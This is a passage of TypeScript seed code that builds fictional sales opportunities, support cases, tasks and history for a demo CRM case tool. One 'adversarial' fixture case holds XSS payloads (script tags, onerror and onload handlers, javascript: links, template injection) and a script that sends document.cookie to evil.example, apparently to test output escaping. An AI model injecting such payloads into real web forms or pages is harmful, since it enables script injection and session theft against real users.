  upgrade(DEMO_OPPORTUNITIES.marcusOakmontUpgrade, "oakmont", "marcusLee", 3, { stage: "5-Negotiating", createdAgo: 40 });
  upgrade(DEMO_OPPORTUNITIES.jordanClosedWonUpgrade, "lanternfish", "jordanRivera", 4, { stage: "Closed Won", closeIn: -2, createdAgo: 9, step: "closed: Ultimate Upgrade signed" });
  upgrade(DEMO_OPPORTUNITIES.jordanClosedLostUpgrade, "mapleMain", "jordanRivera", 5, { stage: "8-Closed Lost", closeIn: -20, createdAgo: 70, step: "closed: budget frozen" });

  const pooled = POOLED_SALES_USER_ID;
  opp(DEMO_OPPORTUNITIES.tidewaterAddOn, "tidewater", pooled, { suffix: "Add-On Seats", stage: "1-Discovery", amount: 1450, closeIn: 21, createdAgo: 3, nextStep: "Confirm true-up of 6 seats", type: "Existing Business" });
  opp(DEMO_OPPORTUNITIES.pinecrestRenewal, "pinecrest", pooled, { suffix: "Renewal", stage: "0-Pending Acceptance", amount: 1500, closeIn: 5, createdAgo: 60, nextStep: null, type: "Renewal" });
  opp(DEMO_OPPORTUNITIES.evergreenRenewal, "evergreen", pooled, { suffix: "Renewal", stage: "5-Negotiating", amount: 2600, closeIn: 12, createdAgo: 45, nextStep: "Quote sent with 3 extra seats", type: "Renewal" });
  opp(DEMO_OPPORTUNITIES.lanternfishAddOnWon, "lanternfish", pooled, { suffix: "Add-On Seats", stage: "Closed Won", amount: 900, closeIn: -2, createdAgo: 9, nextStep: null, type: "Existing Business" });
  opp(oppId(14), "northwind", pooled, { suffix: "Renewal", stage: "1-Discovery", amount: 1900, closeIn: 48, createdAgo: 30, type: "Renewal" });
  opp(oppId(15), "quarryStreet", pooled, { suffix: "Renewal", stage: "0-Pending Acceptance", amount: 1100, closeIn: 75, createdAgo: 15, type: "Renewal" });
  opp(oppId(16), "copperline", pooled, { suffix: "New Business", stage: "1-Discovery", amount: 1200, closeIn: 30, createdAgo: 4, type: "New Business" });
  opp(oppId(17), "fernhill", pooled, { suffix: "Renewal", stage: "8-Closed Lost", amount: 450, closeIn: -25, createdAgo: 120, nextStep: "Churned: moved to free tier", type: "Renewal" });
  opp(oppId(20), "bergmann", user("lukasBecker").userId, { suffix: "Renewal", stage: "3-Technical Evaluation", amount: 3300, closeIn: 9, createdAgo: 50, nextStep: "VAT ID needed for quote", type: "Renewal" });
  opp(oppId(21), "brightwater", user("siobhanMurphy").userId, { suffix: "Add-On Seats", stage: "1-Discovery", amount: 1200, closeIn: 28, createdAgo: 6, type: "Existing Business" });
  opp(DEMO_OPPORTUNITIES.nonPooledUpgrade, "nonPooledMeridian", user("rachelGoldberg").userId, { suffix: "Ultimate Upgrade", stage: "3-Technical Evaluation", amount: 48000, closeIn: 40, createdAgo: 25, nextStep: "Ultimate Upgrade: security review with VP IT", type: "Upgrade" });
  opp(oppId(31), "nonPooledStonebridge", user("rachelGoldberg").userId, { suffix: "Renewal", stage: "5-Negotiating", amount: 38500, closeIn: 18, createdAgo: 60, nextStep: "Legal review of MSA", type: "Renewal" });

  // ---- cases ------------------------------------------------------------------
  interface CaseSpec {
    key: DemoCaseKey;
    subject: string;
    origin: string;
    priority: "High" | "Medium" | "Low";
    created: number;
    account?: AccountKey | null;
    contact?: number | null;
    description?: string | null;
    webForm?: string | null;
    reason?: string | null;
    notes?: string | null;
    opportunity?: string | null;
    createdBy?: string;
    recordType?: string;
    emea?: boolean;
  }
  const byKey = new Map<DemoCaseKey, SeedRecord>();
  const addCase = (s: CaseSpec): SeedRecord => {
    const acct = s.account ? account(s.account) : null;
    const record: SeedRecord = {
      Id: DEMO_CASES[s.key],
      Subject: s.subject,
      Description: s.description ?? null,
      Status: "New",
      Priority: s.priority,
      Origin: s.origin,
      Reason: s.reason ?? null,
      OwnerId: s.emea ? QUEUE_IDS.emea : QUEUE_IDS.amer,
      ContactId: acct && s.contact !== null ? contactOf(acct.key, s.contact ?? 0) : null,
      AccountId: acct ? accountId(acct.n) : null,
      RecordTypeId: s.recordType ?? RECORD_TYPE_IDS.pooledSalesCase,
      Opportunity__c: s.opportunity ?? null,
      Notes__c: s.notes ?? null,
      Resolution_Action__c: null,
      Web_Form_Details__c: s.webForm ?? null,
      First_Responded_Date__c: null,
      Time_To_First_Response__c: null,
      CreatedDate: iso(s.created),
      ClosedDate: null,
      CreatedById: s.createdBy ?? POOLED_SALES_USER_ID,
    };
    Case.push(record);
    byKey.set(s.key, record);
    return record;
  };

  let historyN = 0;
  const history = (rec: SeedRecord, field: "Owner" | "Status", oldValue: string, newValue: string, at: number, by: string): void => {
    CaseHistory.push({ Id: makeId(CASE_HISTORY_PREFIX, ++historyN), CaseId: rec.Id, Field: field, OldValue: oldValue, NewValue: newValue, CreatedDate: iso(at), CreatedById: by });
  };
  /** The AE takes the case from the queue and sets it In Progress (as the store's automation would have recorded it). */
  const claim = (rec: SeedRecord, ae: DemoUserKey, at: number): void => {
    const u = user(ae);
    const queueId = String(rec.OwnerId);
    const queueName = queueId === QUEUE_IDS.emea ? QUEUE_NAMES.emea : QUEUE_NAMES.amer;
    const created = Date.parse(String(rec.CreatedDate));
    rec.OwnerId = u.userId;
    rec.Status = "In Progress";
    rec.First_Responded_Date__c = iso(at);
    rec.Time_To_First_Response__c = Math.round((at - created) / 36_000) / 100;
    // Salesforce (and the store) write an owner change twice: with ids, then with names.
    history(rec, "Owner", queueId, u.userId, at, u.userId);
    history(rec, "Owner", queueName, u.name, at, u.userId);
    history(rec, "Status", "New", "In Progress", at, u.userId);
  };
  const close = (rec: SeedRecord, status: string, at: number, resolution: string, reason: string): void => {
    const by = String(rec.OwnerId);
    history(rec, "Status", String(rec.Status), status, at, by);
    rec.Status = status;
    rec.ClosedDate = iso(at);
    rec.Resolution_Action__c = resolution;
    rec.Reason = reason;
  };

  let taskN = 0;
  const CADENCE_TOUCH: Record<number, { kind: "Email" | "Call"; subject: string }> = {
    1: { kind: "Email", subject: "Email: Following up on your request" },
    3: { kind: "Call", subject: "Call: Day 3 follow-up" },
    5: { kind: "Email", subject: "Email: Checking in" },
    7: { kind: "Email", subject: "Email: Last follow-up before closing your case" },
  };
  /** A completed cadence touch on Day `day` (Day 1 = the claim day, in the AE's time zone). */
  const touch = (rec: SeedRecord, ae: DemoUserKey, claimAt: number, day: number, note?: string): void => {
    const u = user(ae);
    const spec = CADENCE_TOUCH[day];
    if (!spec) throw new Error(`demo seed: no cadence touch on day ${day}`);
    const claimDate = localDate(claimAt, u.timeZone);
    const date = addDays(claimDate, day - 1);
    const at =
      day === 1
        ? truncateToSecond(claimAt + Math.min(40 * 60_000, (t - claimAt) / 2))
        : atLocal(date, 11 * 60 + 30, u.timeZone, 0.6);
    Task.push({
      Id: makeId(KEY_PREFIX.Task, ++taskN),
      Subject: spec.subject,
      TaskSubtype: spec.kind,
      Type: spec.kind,
      Status: "Completed",
      ActivityDate: localDate(at, u.timeZone),
      CompletedDateTime: iso(at),
      Description: note ?? (spec.kind === "Call" ? "Called, left a voicemail and a follow-up note." : "Sent outreach e-mail from the case."),
      WhatId: rec.Id,
      WhoId: rec.ContactId ?? null,
      OwnerId: u.userId,
      CreatedDate: iso(at),
      CreatedById: u.userId,
    });
  };
  const claimDaysAgo = (ae: DemoUserKey, days: number): number => atLocal(daysAgoLocal(days, user(ae).timeZone), 10 * 60, user(ae).timeZone, 0.3);

  const sla = DEMO_SLA.newCaseBusinessHours;

  // New cases in the AMER queue, one per trigger, at different SLA ages.
  addCase({
    key: "contactUsNew",
    subject: "Contact Us Form Response - Bluebird Bakery Co",
    origin: "Web Form",
    priority: "High",
    created: bhAgo(sla.contactUsNew),
    account: "bluebirdBakery",
    reason: "Product Question",
    webForm: webForm({
      first: "Maya", last: "Torres", email: "maya.torres@bluebirdbakery.example", company: "Bluebird Bakery Co",
      country: "United States", phone: "+1 (415) 555-0102", users: "11-50",
      message: "Hi! We have 8 Premium seats and our two new bakeries are joining next month, so we need about 6 more. Also, is there a discount if we switch to annual billing? Thanks, Maya",
    }),
  });
  addCase({
    key: "npsNew",
    subject: "NPS/CSAT Survey Response - Score 3",
    origin: "Gainsight Survey",
    priority: "High",
    created: bhAgo(sla.npsNew),
    account: "northwind",
    reason: "Churn Risk",
    description: "NPS score: 3 (Detractor)\nComment: \"Pipelines got slower after the last upgrade and nobody answered our ticket for two days. Considering alternatives at renewal.\"",
  });
  addCase({
    key: "pqlNew",
    subject: "PQL Hand Raise - Ultimate trial and pricing",
    origin: "In-Product",
    priority: "Medium",
    created: bhAgo(sla.pqlNew),
    account: "copperline",
    description: "User clicked \"Talk to an expert\" on the Ultimate trial banner. Trial started 4 days ago, 6 active users.",
  });
  addCase({
    key: "postChurnNew",
    subject: "Post Churn Survey Response",
    origin: "Gainsight Survey",
    priority: "Low",
    created: bhAgo(sla.postChurnNew),
    account: "fernhill",
    reason: "Churn Risk",
    description: "Primary reason for leaving: Price.\nWould you consider coming back?: Maybe, if there was a smaller plan for 3 users.",
  });
  addCase({
    key: "fastMovingBuyerNew",
    subject: "Fast Moving Buyer Alert - CI/CD Pipeline Security eBook",
    origin: "PathFactory",
    priority: "Low",
    created: t - 65 * 60_000,
    account: "lumenPath",
    contact: 1,
    description: "Aisha Rahman consumed 5 assets in 20 minutes: CI/CD Pipeline Security eBook, Ultimate vs Premium comparison, Pricing page, SAST overview video, Customer story (EdTech).",
  });
  addCase({
    key: "internalReferral",
    subject: "Referral",
    origin: "SMB Pool Internal Created",
    priority: "Medium",
    created: bhAgo(sla.internalReferral),
    account: "granitePeak",
    reason: "Billing Question",
    createdBy: user("kenjiWatanabe").userId,
    description: "Customer raised Zendesk ticket #482113 asking to add 4 seats and move to annual billing before their renewal. This is a sales question, please reach out to Chris. Ticket: https://support.example/tickets/482113",
  });
  addCase({
    key: "expansionNew",
    subject: "Expansion Opportunity: Seat overage 112%",
    origin: "Case Automation",
    priority: "High",
    created: bhAgo(sla.expansionNew),
    account: "tidewater",
    reason: "Expansion",
    opportunity: DEMO_OPPORTUNITIES.tidewaterAddOn,
    description: `Seat usage is 112% of the purchased 50 seats (56 billable users). Renewal date: ${dateIn(96)}. Related add-on opportunity created.`,
  });
  addCase({
    key: "churnNew",
    subject: "Churn & Contraction Mitigation: Seat usage down 40% in 60 days",
    origin: "Case Automation",
    priority: "Medium",
    created: bhAgo(sla.churnNew),
    account: "orchardLane",
    reason: "Churn Risk",
    description: "Active users dropped from 30 to 18 over the last 60 days. Renewal in 45 days.",
  });
  addCase({
    key: "urgentRenewalNew",
    subject: "Urgent Renewal & TRX Support: Subscription expires in 5 days, auto-renew off",
    origin: "Case Automation",
    priority: "High",
    created: bhAgo(sla.urgentRenewalNew),
    account: "pinecrest",
    reason: "Renewal",
    opportunity: DEMO_OPPORTUNITIES.pinecrestRenewal,
    description: `Subscription end date ${dateIn(5)}; auto-renew is disabled and the card on file expired.`,
  });
  addCase({
    key: "inboundRequestNew",
    subject: "Inbound Request: Quote for 10 additional seats",
    origin: "Email",
    priority: "Medium",
    created: bhAgo(sla.inboundRequestNew),
    account: "sableFinch",
    reason: "Expansion",
    description: "From: leo.martin@sableandfinch.example\n\nHello, could you send us a quote for 10 more seats? We'd like them active from the first of next month. Leo",
  });
  addCase({
    key: "unclassified",
    subject: "Question about my invoice",
    origin: "Email",
    priority: "Low",
    created: bhAgo(sla.unclassified),
    account: "quarryStreet",
    contact: 1,
    reason: "Billing Question",
    description: "Hi, our last invoice shows 14 seats but we only have 12 users. Can you explain? Zoe, Accounts Payable",
  });
  {
    // Out of hours: the latest 22:00 New York time that is at least 2 hours ago.
    const nyToday = localDate(t, "America/New_York");
    let at = localToUtc(nyToday, 22 * 60, "America/New_York");
    if (at > t - 2 * HOUR_MS) at = localToUtc(addDays(nyToday, -1), 22 * 60, "America/New_York");
    addCase({
      key: "outOfHoursNew",
      subject: "Contact Us Form Response - Nightjar Analytics",
      origin: "Web Form",
      priority: "Medium",
      created: at,
      account: "nightjar",
      webForm: webForm({
        first: "Ivy", last: "Sato", email: "ivy.sato@nightjar.example", company: "Nightjar Analytics",
        country: "United States", phone: "+1 (415) 555-0126", users: "1-10",
        message: "Late-night question: our free trial ends tomorrow. Can we buy Premium for 4 users with a PO instead of a credit card?",
      }),
    });
  }

  // Conflict (a): one case In Progress with Avery, one New in the queue, same account.
  const conflictFirst = addCase({
    key: "conflictFirstCase",
    subject: "Inbound Request: Add 5 seats before renewal",
    origin: "Phone",
    priority: "Medium",
    created: subtractBusinessHours(claimDaysAgo("averyChen", 1), 3, AMER_CALENDAR),
    account: "conflictOpenCase",
    reason: "Expansion",
    notes: "Rosa wants 5 more seats before renewal; waiting on her headcount confirmation.",
  });
  const conflictFirstClaim = claimDaysAgo("averyChen", 1);
  claim(conflictFirst, "averyChen", conflictFirstClaim);
  touch(conflictFirst, "averyChen", conflictFirstClaim, 1);
  addCase({
    key: "conflictSecondCase",
    subject: "PQL Hand Raise - SAML SSO setup",
    origin: "In-Product",
    priority: "Medium",
    created: bhAgo(sla.conflictSecondCase),
    account: "conflictOpenCase",
    description: "Admin asked about SAML SSO (Premium feature) from the group settings page.",
  });

  // Conflict (b): Acme Co has an active Ultimate Upgrade opp owned by Marcus Lee.
  addCase({
    key: "upgradeConflictCase",
    subject: "Expansion Opportunity: Seat overage 135%",
    origin: "Case Automation",
    priority: "High",
    created: bhAgo(sla.upgradeConflictCase),
    account: "upgradeConflict",
    reason: "Expansion",
    description: "Seat usage is 135% of the purchased 20 seats (27 billable users).",
  });

  // Adversarial data.
  addCase({
    key: "hugeDescription",
    subject: "Inbound Request: Forwarded email thread about seat true-up",
    origin: "Email",
    priority: "Low",
    created: bhAgo(sla.hugeDescription),
    account: "mosaicHealth",
    description: hugeThread(LONG_TEXT_MAX, "Diane Holt <diane.holt@mosaichealth.example>"),
    notes: hugeJapaneseThread(LONG_TEXT_MAX),
  });
  addCase({
    key: "hostileHtml",
    subject: `Contact Us Form Response - ${XSS_ACCOUNT_NAME}`,
    origin: "Web Form",
    priority: "Medium",
    created: bhAgo(sla.hostileHtml),
    account: "hostileHtml",
    description: `<b>Bold?</b> <img src=x onerror="alert('description')"> See <a href="javascript:alert('link')">our portal</a> & compare 1 < 2 > 0.`,
    notes: `</textarea><script>alert('notes')</script>`,
    webForm: webForm({
      first: `<script>alert("first")</script>`, last: "O'Reilly", email: "mal.oreilly@widgets-and-co.example", company: XSS_ACCOUNT_NAME,
      country: "United States", phone: "javascript:alert('phone')", users: `"><svg onload=alert(3)>`,
      message: `<script>fetch('https://evil.example/steal?c='+document.cookie)</script> Please click <a href="javascript:alert(1)">here</a> or <iframe src="javascript:alert(2)"></iframe> {{constructor.constructor('alert(4)')()}} \${alert(5)}`,
    }),
  });
  addCase({
    key: "noContact",
    subject: "Fast Moving Buyer Alert - DevSecOps Platform Buyer's Guide",
    origin: "PathFactory",
    priority: "Low",
    created: bhAgo(sla.noContact),
    account: "noContacts",
    contact: null,
    description: "Anonymous visitor from driftwoodlabs.example consumed 3 assets (no matching contact).",
  });
  addCase({
    key: "noAccount",
    subject: "Contact Us Form Response - Quillfeather Studio",
    origin: "Web Form",
    priority: "Medium",
    created: bhAgo(sla.noAccount),
    account: null,
    webForm: webForm({
      first: "Rowan", last: "Pike", email: "rowan@quillfeather.example", company: "Quillfeather Studio",
      country: "United States", phone: "+1 (415) 555-0199", users: "1-10",
      message: "We're a 3-person studio on the free tier. What would Premium cost us, and can we pay monthly?",
    }),
  });

  // Cadence cases (In Progress, owned by AEs).
  {
    const claimAt = claimDaysAgo("averyChen", 0);
    const rec = addCase({
      key: "cadenceDay1",
      subject: "Urgent Renewal & TRX Support: Renewal in 14 days, payment method expired",
      origin: "Case Automation",
      priority: "High",
      created: subtractBusinessHours(claimAt, 2, AMER_CALENDAR),
      account: "cobaltRidge",
      reason: "Renewal",
      notes: "Emailed Kevin the renewal link; call on Day 3 if no reply.",
    });
    claim(rec, "averyChen", claimAt);
    touch(rec, "averyChen", claimAt, 1);
  }
  {
    const claimAt = claimDaysAgo("priyaShah", 2);
    const rec = addCase({
      key: "cadenceDay3",
      subject: "NPS/CSAT Survey Response - Score 9",
      origin: "Gainsight Survey",
      priority: "Low",
      created: subtractBusinessHours(claimAt, 1.25, AMER_CALENDAR),
      account: "blueHeron",
      reason: "Product Question",
      description: "NPS score: 9 (Promoter)\nComment: \"Love it. Would like to know more about the AI features.\"",
    });
    claim(rec, "priyaShah", claimAt);
    touch(rec, "priyaShah", claimAt, 1);
  }
  {
    const claimAt = claimDaysAgo("jordanRivera", 4);
    const rec = addCase({
      key: "cadenceDay3Overdue",
      subject: "Churn & Contraction Mitigation: Renewal downgrade requested (20 -> 12 seats)",
      origin: "Case Automation",
      priority: "Medium",
      created: subtractBusinessHours(claimAt, 10, AMER_CALENDAR),
      account: "saltmarsh",
      reason: "Churn Risk",
      notes: "Sent Day 1 email. Need to call Jake about the downgrade.",
    });
    claim(rec, "jordanRivera", claimAt);
    touch(rec, "jordanRivera", claimAt, 1);
  }
  {
    const claimAt = claimDaysAgo("marcusLee", 6);
    const rec = addCase({
      key: "cadenceComplete",
      subject: "Expansion Opportunity: Ultimate trial started on 30 seats",
      origin: "Case Automation",
      priority: "Medium",
      created: subtractBusinessHours(claimAt, 4, AMER_CALENDAR),
      account: "kestrel",
      reason: "Expansion",
      notes: "All four touches done. Arjun interested in Ultimate; upgrade opp created, awaiting trial results.",
    });
    claim(rec, "marcusLee", claimAt);
    for (const day of [1, 3, 5, 7]) touch(rec, "marcusLee", claimAt, day, day === 3 ? "Spoke with Arjun: interested in Ultimate for the robotics team." : undefined);
  }
  {
    const claimAt = claimDaysAgo("samOkafor", 8);
    const rec = addCase({
      key: "cadencePastSevenDays",
      subject: "Inbound Request: Quote for renewal with 3 extra seats",
      origin: "Email",
      priority: "Medium",
      created: claimAt - 3 * HOUR_MS,
      account: "evergreen",
      reason: "Renewal",
      opportunity: DEMO_OPPORTUNITIES.evergreenRenewal,
      notes: "Quote sent. Beth said she'd get back after the board meeting.",
    });
    claim(rec, "samOkafor", claimAt);
    for (const day of [1, 3, 5]) touch(rec, "samOkafor", claimAt, day);
  }

  // Closed cases.
  {
    const created = truncateToSecond(t - 9 * DAY_MS - 2 * HOUR_MS);
    const claimAt = created + 2 * HOUR_MS;
    const rec = addCase({
      key: "closedResolved",
      subject: "Expansion Opportunity: Seat overage 118%",
      origin: "Case Automation",
      priority: "High",
      created,
      account: "lanternfish",
      reason: "Expansion",
      opportunity: DEMO_OPPORTUNITIES.lanternfishAddOnWon,
      notes: "True-up of 4 seats closed won; Tyler also signed an Ultimate upgrade.",
    });
    claim(rec, "jordanRivera", claimAt);
    touch(rec, "jordanRivera", claimAt, 1);
    touch(rec, "jordanRivera", claimAt, 3, "Walked Tyler through the true-up and Ultimate pricing.");
    close(rec, "Closed_Resolved", truncateToSecond(t - 2 * DAY_MS), "Upgrade Completed", "Expansion");
  }
  {
    const created = truncateToSecond(t - 9.5 * DAY_MS);
    const claimAt = created + 5 * HOUR_MS;
    const rec = addCase({
      key: "closedUnresponsive",
      subject: "Churn & Contraction Mitigation: Auto-renew disabled",
      origin: "Case Automation",
      priority: "Medium",
      created,
      account: "mapleMain",
    });
    claim(rec, "priyaShah", claimAt);
    for (const day of [1, 3, 5, 7]) touch(rec, "priyaShah", claimAt, day);
    const closeAt = Math.min(atLocal(addDays(localDate(claimAt, user("priyaShah").timeZone), 7), 10 * 60, user("priyaShah").timeZone, 0.9), t - HOUR_MS);
    close(rec, "Closed - Customer Unresponsive", closeAt, "Customer Unresponsive", "Churn Risk");
  }
  {
    const created = truncateToSecond(t - 5 * DAY_MS);
    const claimAt = created + HOUR_MS;
    const rec = addCase({
      key: "closedDuplicate",
      subject: "Contact Us Form Response - Silverline Events",
      origin: "Web Form",
      priority: "Low",
      created,
      account: "silverline",
      webForm: webForm({
        first: "Nina", last: "Reyes", email: "nina.reyes@silverline-events.example", company: "Silverline Events",
        country: "United States", phone: "+1 (415) 555-0150", users: "1-10",
        message: "Submitting again in case the first one didn't go through: we need pricing for 5 users.",
      }),
    });
    claim(rec, "samOkafor", claimAt);
    close(rec, "Closed - Duplicate", claimAt + 30 * 60_000, "No Action Required", "Other");
  }

  // A Support Case (not pooled) on a pooled account.
  {
    const created = truncateToSecond(t - 26 * HOUR_MS);
    const respondedAt = created + 90 * 60_000;
    addCase({
      key: "supportCase",
      subject: "GitLab Runner fails to register after upgrade",
      origin: "Email",
      priority: "Medium",
      created,
      account: "quarryStreet",
      reason: "Technical Issue",
      recordType: RECORD_TYPE_IDS.supportCase,
      createdBy: user("kenjiWatanabe").userId,
      description: "Runner registration returns 403 since the upgrade to 17.x. Zendesk #482200.",
    });
    const rec = byKey.get("supportCase");
    if (rec) {
      rec.OwnerId = user("kenjiWatanabe").userId;
      rec.Status = "In Progress";
      rec.First_Responded_Date__c = iso(respondedAt);
      rec.Time_To_First_Response__c = Math.round((respondedAt - created) / 36_000) / 100;
    }
  }

  // EMEA cases (EMEA queue, EMEA business hours).
  addCase({
    key: "emeaContactUsNew",
    subject: "Contact Us Form Response - Brightwater Analytics Ltd",
    origin: "Web Form",
    priority: "High",
    created: bhAgo(sla.emeaContactUsNew, EMEA_CALENDAR),
    account: "brightwater",
    emea: true,
    webForm: webForm({
      first: "Aoife", last: "Byrne", email: "aoife.byrne@brightwater.example", company: "Brightwater Analytics Ltd",
      country: "Ireland", phone: "+353 1 555 1410", users: "11-50",
      message: "We need an invoice in EUR with our VAT number for the next renewal, and we'd like to add 5 seats.",
    }),
  });
  {
    const claimAt = claimDaysAgo("siobhanMurphy", 1);
    const rec = addCase({
      key: "emeaInProgress",
      subject: "Inbound Request: Move from monthly to annual billing",
      origin: "Phone",
      priority: "Medium",
      created: subtractBusinessHours(claimAt, 3, EMEA_CALENDAR),
      account: "thistleOak",
      reason: "Billing Question",
      emea: true,
      notes: "Fiona wants annual billing from next cycle. Sent options.",
    });
    claim(rec, "siobhanMurphy", claimAt);
    touch(rec, "siobhanMurphy", claimAt, 1);
  }
  addCase({
    key: "emeaUrgentRenewalNew",
    subject: "Urgent Renewal & TRX Support: Renewal quote needs VAT ID before expiry",
    origin: "Case Automation",
    priority: "High",
    created: bhAgo(sla.emeaUrgentRenewalNew, EMEA_CALENDAR),
    account: "bergmann",
    reason: "Renewal",
    emea: true,
  });
  addCase({
    key: "emeaInboundPhoneNew",
    subject: "Inbound Request: Customer called about a 30-day Premium trial",
    origin: "Phone",
    priority: "Low",
    created: bhAgo(sla.emeaInboundPhoneNew, EMEA_CALENDAR),
    account: "alpenblick",
    emea: true,
  });
  addCase({
    key: "emeaFastMovingBuyerNew",
    subject: "Fast Moving Buyer Alert - GitLab Duo Enterprise webinar",
    origin: "PathFactory",
    priority: "Medium",
    created: bhAgo(sla.emeaFastMovingBuyerNew, EMEA_CALENDAR),
    account: "norrsken",
    emea: true,
  });

  // Case numbers follow creation order: hand the store the cases oldest first.
  Case.sort((a, b) => String(a.CreatedDate).localeCompare(String(b.CreatedDate)) || String(a.Id).localeCompare(String(b.Id)));

  const records: DemoRecords = {
    ...base.records,
    Account,
    Contact,
    Opportunity,
    Case,
    Task,
    CaseHistory,
  };
  return { ...base, records };
}
